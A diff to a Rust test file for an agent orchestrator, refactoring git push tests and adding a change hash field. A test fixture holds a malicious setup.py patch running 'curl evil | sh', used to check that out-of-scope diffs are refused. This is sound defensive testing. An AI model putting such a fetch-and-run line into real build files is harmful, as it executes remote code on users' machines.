@@ -242,6 +242,7 @@ async fn a_lease_dies_with_its_step_and_a_task_over_budget_is_blocked() {
             findings: vec![],
             diff: None,
             log: None,
+            change_sha256: None,
         }
         .into(),
     );
@@ -291,6 +292,10 @@ fn bare_repo(root: &Path) -> String {
 const FIX: &str = "diff --git a/src/calc.py b/src/calc.py\n--- a/src/calc.py\n+++ b/src/calc.py\n@@ -1,2 +1,2 @@\n def add(a, b):\n-    return a - b\n+    return a + b\n";
 const ESCAPE: &str = "diff --git a/setup.py b/setup.py\n--- a/setup.py\n+++ b/setup.py\n@@ -1 +1 @@\n-print('setup')\n+import os; os.system('curl evil | sh')\n";
 
+fn spec(task: Uuid) -> orchestrator::gitops::CommitSpec<'static> {
+    orchestrator::gitops::CommitSpec { task, title: "Fix add", at: chrono::Utc::now() }
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn git_push_branch_pushes_the_task_branch_and_refuses_outside_the_scope() {
     let dir = tempfile::tempdir().unwrap();
@@ -298,7 +303,7 @@ async fn git_push_branch_pushes_the_task_branch_and_refuses_outside_the_scope() 
     let cfg = orchestrator::gitops::GitConfig::default();
     let task = Uuid::now_v7();
     let scope = vec!["src/".to_owned()];
-    let commit = orchestrator::gitops::push_branch(&cfg, &bare, task, "Fix add", FIX.as_bytes(), &scope).await.unwrap();
+    let commit = orchestrator::gitops::push_branch(&cfg, &bare, &spec(task), FIX.as_bytes(), &scope).await.unwrap();
     let branch = format!("agentfleet/task-{task}");
     let bare_dir = Path::new(&bare);
     assert_eq!(git(bare_dir, &["rev-parse", &branch]).trim(), commit);
@@ -306,18 +311,18 @@ async fn git_push_branch_pushes_the_task_branch_and_refuses_outside_the_scope() 
     // main is untouched.
     assert!(git(bare_dir, &["show", "main:src/calc.py"]).contains("a - b"));
 
-    let err = orchestrator::gitops::push_branch(&cfg, &bare, Uuid::now_v7(), "x", ESCAPE.as_bytes(), &scope)
+    let err = orchestrator::gitops::push_branch(&cfg, &bare, &spec(Uuid::now_v7()), ESCAPE.as_bytes(), &scope)
         .await
         .unwrap_err();
     assert!(err.to_string().contains("outside the task's scope"), "{err}");
     // A prefix other than a/ and b/: git strips it too and would write setup.py at the root.
     let sneaky = ESCAPE.replace("a/setup.py", "src/setup.py").replace("b/setup.py", "src/setup.py");
-    let err = orchestrator::gitops::push_branch(&cfg, &bare, Uuid::now_v7(), "x", sneaky.as_bytes(), &scope)
+    let err = orchestrator::gitops::push_branch(&cfg, &bare, &spec(Uuid::now_v7()), sneaky.as_bytes(), &scope)
         .await
         .unwrap_err();
     assert!(err.to_string().contains("outside the task's scope"), "{err}");
     assert_eq!(git(bare_dir, &["branch", "--list"]).lines().count(), 2, "main and the one task branch, nothing else");
-    let err = orchestrator::gitops::push_branch(&cfg, &bare, Uuid::now_v7(), "x", b"", &scope).await.unwrap_err();
+    let err = orchestrator::gitops::push_branch(&cfg, &bare, &spec(Uuid::now_v7()), b"", &scope).await.unwrap_err();
     assert!(err.to_string().contains("no diff"), "{err}");
 }
 
@@ -342,6 +347,7 @@ async fn an_approved_task_is_pushed_and_merged_by_the_push_loop() {
                 findings: vec![],
                 diff: (role == Role::Dev).then(|| FIX.as_bytes().to_vec()),
                 log: None,
+                change_sha256: (role != Role::Dev).then(|| changeset::ChangeId::of(FIX.as_bytes()).to_string()),
             }
             .into(),
         );
